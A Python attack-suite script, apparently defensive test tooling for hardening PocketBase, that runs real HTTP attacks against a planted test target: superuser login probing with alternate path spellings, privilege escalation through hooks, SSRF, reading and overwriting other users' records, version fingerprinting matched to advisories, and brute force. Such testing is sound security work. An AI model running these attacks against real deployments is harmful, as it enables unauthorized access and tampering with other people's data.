# -*- coding: utf-8 -*-
"""The article's seven attack patterns (plus superuser brute force) as real HTTP attacks.

Stdlib only, so the same file runs on the controller and inside a test container:

    attacks.py --target target.json run all|NAME...   -> JSON list of results

Every attack returns {"attack", "pattern", "succeeded": true|false|null, "evidence", "detail"}.
``succeeded`` is what an attacker would care about; null means the attack could not be carried
out at all (for example no non-loopback address to try): callers must treat null as an error,
never as "blocked".

target.json keys:
  public_url       where clients reach the service (proxy URL after hardening, the exposed
                   PocketBase before), e.g. https://pb.example.test or http://10.0.0.5:8090
  connect          optional IP:PORT to connect to instead of resolving public_url (curl --resolve)
  attacker_source  source address of the attacker: not on the admin allowlist (127.0.0.2)
  admin_source     an allowlisted source address (brute force from the office): 127.0.0.1
  direct           list of "ADDR:PORT" (PocketBase's port on addresses other than loopback), or
                   "auto" = every non-loopback IPv4 address of this machine on pb_port
  pb_port          PocketBase's port (8090)
  superuser_email  the address a brute force would guess (default admin@example.com)
  state            path of plant.py's state file (planted users and record ids)
"""
from __future__ import annotations

import argparse
import json
import os
import re
import subprocess
import sys
import threading
import time
import uuid
from http.server import BaseHTTPRequestHandler, HTTPServer

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
# _pb_paths (stdlib only) sits next to this file in a container (molecule/attack copies it), else in the repo
sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "plugins", "module_utils"))
from pbhttp import Client, ConnectFailed  # noqa: E402
import _pb_paths  # noqa: E402

# Local copy of the advisory table (docs/pocketbase-facts.md#advisories); the pytest layer cross-checks it with
# plugins/module_utils/_controls.py when that module is importable.
ADVISORIES = [
    {"id": "CVE-2024-38351", "ghsa": "GHSA-m93w-4fxv-r35v", "ranges": [("0.0.0", "0.22.14")]},
    {"id": "CVE-2026-44166", "ghsa": "GHSA-pq7p-mc74-g65w",
     "ranges": [("0.0.0", "0.22.42"), ("0.30.0", "0.37.4")]},
    {"id": "CVE-2026-82410", "ghsa": "GHSA-84vh-m24q-wjjx",
     "ranges": [("0.0.0", "0.22.48"), ("0.23.0", "0.39.7")]},
]
VERSION_RE = re.compile(r"PocketBase v(\d+\.\d+\.\d+)")


def vtuple(v):
    return tuple(int(x) for x in v.split("."))


def matching_advisories(version, table=None):
    out = []
    for adv in table or ADVISORIES:
        for lo, hi in adv["ranges"]:
            if vtuple(lo) <= vtuple(version) < vtuple(hi):
                out.append(adv["id"])
                break
    return out


class Target(object):
    def __init__(self, cfg):
        self.cfg = cfg
        self.public_url = cfg["public_url"]
        self.connect = cfg.get("connect")
        self.attacker_source = cfg.get("attacker_source", "127.0.0.2")
        self.admin_source = cfg.get("admin_source", "127.0.0.1")
        self.pb_port = int(cfg.get("pb_port", 8090))
        self.superuser_email = cfg.get("superuser_email", "admin@example.com")
        state = cfg.get("state")
        if isinstance(state, str):
            with open(state) as fh:
                state = json.load(fh)
        self.state = state or {}
        self._tokens = {}

    def client(self, source=None):
        return Client(self.public_url, connect=self.connect,
                      source=source or self.attacker_source)

    def user(self, name):
        return self.state["users"][name]

    def login(self, name):
        """Sign in as a planted (legitimate) user; waits out rate limits instead of failing."""
        if name in self._tokens:
            return self._tokens[name]
        u = self.user(name)
        c = self.client()
        for _attempt in range(8):
            r = c.post("/api/collections/users/auth-with-password",
                       {"identity": u["email"], "password": u["password"]})
            if r.status == 429:
                time.sleep(3.5)
                continue
            if r.status != 200:
                raise AttackSetupError("login as %s failed: HTTP %s" % (name, r.status))
            self._tokens[name] = r.json()["token"]
            return self._tokens[name]
        raise AttackSetupError("login as %s kept hitting the rate limit" % name)

    def direct_addresses(self):
        d = self.cfg.get("direct", "auto")
        if d == "auto":
            return ["%s:%d" % (a, self.pb_port) for a in non_loopback_ipv4()]
        return list(d)


class AttackSetupError(Exception):
    """The attacker's own prerequisites failed (not the attack)."""


def non_loopback_ipv4():
    try:
        out = subprocess.run(["ip", "-4", "-o", "addr", "show"], capture_output=True,
                             text=True, check=True).stdout
    except (OSError, subprocess.CalledProcessError):
        return []
    addrs = []
    for line in out.splitlines():
        m = re.search(r"\binet (\d+\.\d+\.\d+\.\d+)/", line)
        if m and not m.group(1).startswith("127."):
            addrs.append(m.group(1))
    return addrs


def result(name, pattern, succeeded, evidence, **detail):
    return {"attack": name, "pattern": pattern, "succeeded": succeeded, "evidence": evidence,
            "detail": detail}


def _status(fn):
    try:
        return fn()
    except ConnectFailed as exc:
        return exc


# --------------------------------------------------------------------------------------------
# pattern 1: admin panel and PocketBase itself exposed
def p1_dashboard(t):
    r = _status(lambda: t.client().get("/_/"))
    if isinstance(r, Exception):
        return result("p1_dashboard", 1, False, "dashboard unreachable: %s" % r)
    ok = r.status == 200 and ("/_/assets/" in r.text or "PocketBase" in r.text)
    return result("p1_dashboard", 1, ok, "GET /_/ from %s -> HTTP %s%s" % (
        t.attacker_source, r.status, " (PocketBase dashboard served)" if ok else ""))


def p1_superuser_login(t):
    """Every spelling PocketBase resolves to the superuser login (_pb_paths: case, U+017F for s,
    percent-encoding, the collection id; 0.22's admins API), not just the canonical one."""
    c = t.client()
    paths = _pb_paths.superuser_login_paths(None, sample=20)
    seen = []
    for path in paths:
        r = _status(lambda: c.post(path, {"identity": t.superuser_email,
                                          "password": "wrong-" + uuid.uuid4().hex[:8]}))
        if isinstance(r, Exception):
            return result("p1_superuser_login", 1, False, "login endpoint unreachable: %s" % r)
        seen.append("%s -> %s" % (path, r.status))
        body = r.json() or {}
        # 400 "Failed to authenticate." means the endpoint answers credential guesses
        if r.status in (400, 401) and ("message" in body):
            return result("p1_superuser_login", 1, True,
                          "superuser login answers credential guesses from %s: %s"
                          % (t.attacker_source, "; ".join(seen)))
    counts = {}
    for entry in seen:
        status = entry.rsplit(" -> ", 1)[1]
        counts[status] = counts.get(status, 0) + 1
    return result("p1_superuser_login", 1, False, "%d spellings of the superuser login from %s: %s" % (
        len(seen), t.attacker_source, ", ".join("HTTP %s x%d" % kv for kv in sorted(counts.items()))))


def p1_direct_port(t):
    addrs = t.direct_addresses()
    if not addrs:
        return result("p1_direct_port", 1, None, "no non-loopback address to attack from")
    seen = []
    for addr in addrs:
        c = Client("http://%s" % addr, source=None, timeout=4)
        r = _status(lambda: c.get("/api/health"))
        if isinstance(r, Exception):
            seen.append("%s refused/unreachable" % addr)
            continue
        seen.append("%s -> HTTP %s" % (addr, r.status))
        if r.status == 200 and "healthy" in r.text:
            return result("p1_direct_port", 1, True,
                          "PocketBase answers directly on a non-loopback address: %s" % addr,
                          tried=seen)
    return result("p1_direct_port", 1, False, "; ".join(seen), tried=seen)


# --------------------------------------------------------------------------------------------
# pattern 2: permissive record rules
def p2_list_tickets(t):
    r = t.client().get("/api/collections/tickets/records", query={"perPage": 200})
    items = (r.json() or {}).get("items") or [] if r.status == 200 else []
    customers = sorted({i.get("customer") for i in items})
    return result("p2_list_tickets", 2, bool(items),
                  "anonymous list of tickets -> HTTP %s, %d tickets of %d customers"
                  % (r.status, len(items), len(customers)))


def p2_update_profile(t):
    tok = t.login("mallory")
    victim = t.state["records"]["profiles"]["alice"]
    marker = "pwned-by-mallory-" + uuid.uuid4().hex[:6]
    c = t.client()
    before = None
    r = c.patch("/api/collections/profiles/records/%s" % victim, {"bio": marker}, token=tok)
    ok = r.status == 200 and (r.json() or {}).get("bio") == marker
    if ok:  # put the victim's bio back (record content, not count, is what we touched)
        c.patch("/api/collections/profiles/records/%s" % victim, {"bio": "alice's bio"}, token=tok)
    return result("p2_update_profile", 2, ok,
                  "mallory PATCHes alice's profile -> HTTP %s%s" % (
                      r.status, " (bio overwritten)" if ok else ""), before=before)


# --------------------------------------------------------------------------------------------
# pattern 3: joined permissions collection readable -> enumerate admins
def p3_enumerate_admins(t):
    tok = t.login("mallory")
    me = t.user("mallory")["id"]
    r = t.client().get("/api/collections/permissions/records",
                       query={"perPage": 200, "filter": 'level = "admin"'}, token=tok)
    items = (r.json() or {}).get("items") or [] if r.status == 200 else []
    admins = sorted({i.get("user") for i in items if i.get("user") != me})
    return result("p3_enumerate_admins", 3, bool(admins),
                  "mallory lists permissions where level=admin -> HTTP %s, %d other admin(s) found"
                  % (r.status, len(admins)))


# --------------------------------------------------------------------------------------------
# pattern 4: sign in without a verified email
def p4_unverified_login(t):
    u = t.user("eve")
    c = t.client()
    for _attempt in range(8):
        r = c.post("/api/collections/users/auth-with-password",
                   {"identity": u["email"], "password": u["password"]})
        if r.status != 429:
            break
        time.sleep(3.5)
    rec = (r.json() or {}).get("record") or {}
    ok = r.status == 200 and "token" in (r.json() or {}) and rec.get("verified") is False
    return result("p4_unverified_login", 4, ok,
                  "unverified eve signs in with password -> HTTP %s%s" % (
                      r.status, " (token issued to an unverified account)" if ok else ""))


# --------------------------------------------------------------------------------------------
# pattern 5: another user's file without a file token
def p5_file_no_token(t):
    alice = t.user("alice")["id"]
    fn = t.state["records"]["alice_idcard"]
    path = "/api/files/users/%s/%s" % (alice, fn)
    r = t.client().get(path)
    ok = r.status == 200 and r.body.startswith(b"PBGUARD-IDCARD")
    # an authenticated non-owner without a file token must not get it either
    r2 = t.client().get(path, token=t.login("mallory"))
    ok2 = r2.status == 200 and r2.body.startswith(b"PBGUARD-IDCARD")
    return result("p5_file_no_token", 5, ok or ok2,
                  "GET alice's idcard without a file token: anonymous -> HTTP %s, as mallory -> "
                  "HTTP %s" % (r.status, r2.status))


# --------------------------------------------------------------------------------------------
# pattern 6: hooks trusting client data
def p6_hook_escalation(t):
    tok = t.login("mallory")
    me = t.user("mallory")["id"]
    c = t.client()
    r = c.post("/api/collections/memberships/records",
               {"user": me, "team": "red", "isAdmin": True}, token=tok)
    body = r.json() or {}
    ok = r.status == 200 and body.get("role") == "admin"
    if r.status == 200 and body.get("id"):
        c.delete("/api/collections/memberships/records/%s" % body["id"], token=tok)
    return result("p6_hook_escalation", 6, ok,
                  "mallory creates a membership with isAdmin=true -> HTTP %s, role=%r"
                  % (r.status, body.get("role")))


class _Hits(BaseHTTPRequestHandler):
    hits = []

    def _hit(self):
        self.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_GET = do_POST = _hit

    def log_message(self, *a):
        pass


def p6_ssrf(t):
    """The SSRF target is a listener on this machine's loopback that records hits."""
    srv = HTTPServer(("127.0.0.1", 0), _Hits)
    _Hits.hits = []
    th = threading.Thread(target=srv.serve_forever, daemon=True)
    th.start()
    nonce = uuid.uuid4().hex
    url = "http://127.0.0.1:%d/ssrf/%s" % (srv.server_address[1], nonce)
    try:
        tok = t.login("mallory")
        me = t.user("mallory")["id"]
        c = t.client()
        r = c.post("/api/collections/webhooks/records", {"owner": me, "url": url}, token=tok)
        body = r.json() or {}
        deadline = time.time() + 4
        while time.time() < deadline and not any(nonce in h for h in _Hits.hits):
            time.sleep(0.1)
        if r.status == 200 and body.get("id"):
            c.delete("/api/collections/webhooks/records/%s" % body["id"], token=tok)
    finally:
        srv.shutdown()
        srv.server_close()
    ok = any(nonce in h for h in _Hits.hits)
    return result("p6_ssrf", 6, ok,
                  "webhook record pointing at a loopback listener -> HTTP %s; listener hits: %d"
                  % (r.status, len([h for h in _Hits.hits if nonce in h])))


# --------------------------------------------------------------------------------------------
# pattern 7: remote version detection + advisory match
def remote_version(c):
    r = c.get("/_/")
    if r.status != 200:
        return None, "GET /_/ -> HTTP %s" % r.status
    m = VERSION_RE.search(r.text)
    if m:
        return m.group(1), "version in /_/"
    for asset in re.findall(r'(?:src|href)="([^"]*assets/[^"]+\.js)"', r.text):
        path = asset if asset.startswith("/") else "/_/" + asset.lstrip("./")
        a = c.get(path)
        m = VERSION_RE.search(a.text) if a.status == 200 else None
        if m:
            return m.group(1), "version in %s" % path
    return None, "no version string in /_/ assets"


def p7_version(t):
    v = _status(lambda: remote_version(t.client()))
    if isinstance(v, Exception):
        return result("p7_version", 7, False, "unreachable: %s" % v)
    version, how = v
    if not version:
        return result("p7_version", 7, False, "version not disclosed (%s)" % how)
    advs = matching_advisories(version)
    return result("p7_version", 7, bool(advs), "remote version %s (%s); advisories: %s" % (
        version, how, ", ".join(advs) or "none"), version=version, advisories=advs)


# --------------------------------------------------------------------------------------------
# brute force of the superuser login from an allowlisted address
def bruteforce(t, attempts=30):
    c = t.client(source=t.admin_source)
    statuses = []
    for i in range(attempts):
        r = _status(lambda: c.post("/api/collections/_superusers/auth-with-password",
                                   {"identity": t.superuser_email,
                                    "password": "guess-%d-%s" % (i, uuid.uuid4().hex[:6])}))
        statuses.append(r.status if not isinstance(r, Exception) else "conn")
        if statuses[-1] == 429:
            break
    guesses = sum(1 for s in statuses if s in (400, 401))
    limited = 429 in statuses
    # the attack "succeeds" when every guess was evaluated: no limit in sight
    ok = not limited and guesses == attempts
    return result("bruteforce", 0, ok, "%d guesses from %s: %s" % (
        len(statuses), t.admin_source, _compress(statuses)), statuses=statuses, hit_429=limited)


def _compress(statuses):
    out, prev, n = [], None, 0
    for s in statuses + [None]:
        if s == prev:
            n += 1
            continue
        if prev is not None:
            out.append("%sx%d" % (prev, n))
        prev, n = s, 1
    return " ".join(out)


ATTACKS = {f.__name__: f for f in (
    p1_dashboard, p1_superuser_login, p1_direct_port, p2_list_tickets, p2_update_profile,
    p3_enumerate_admins, p4_unverified_login, p5_file_no_token, p6_hook_escalation, p6_ssrf,
    p7_version, bruteforce)}


def run(target, names):
    out = []
    for n in names:
        try:
            out.append(ATTACKS[n](target))
        except (AttackSetupError, ConnectFailed, KeyError) as exc:
            out.append(result(n, None, None, "could not run: %s: %s" % (type(exc).__name__, exc)))
    return out


def main(argv=None):
    ap = argparse.ArgumentParser(description="pbguard attack suite")
    ap.add_argument("--target", required=True, help="target.json")
    ap.add_argument("action", choices=["run", "list"])
    ap.add_argument("names", nargs="*")
    a = ap.parse_args(argv)
    if a.action == "list":
        print(json.dumps(sorted(ATTACKS)))
        return 0
    with open(a.target) as fh:
        cfg = json.load(fh)
    names = list(ATTACKS) if not a.names or a.names == ["all"] else a.names
    print(json.dumps(run(Target(cfg), names)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
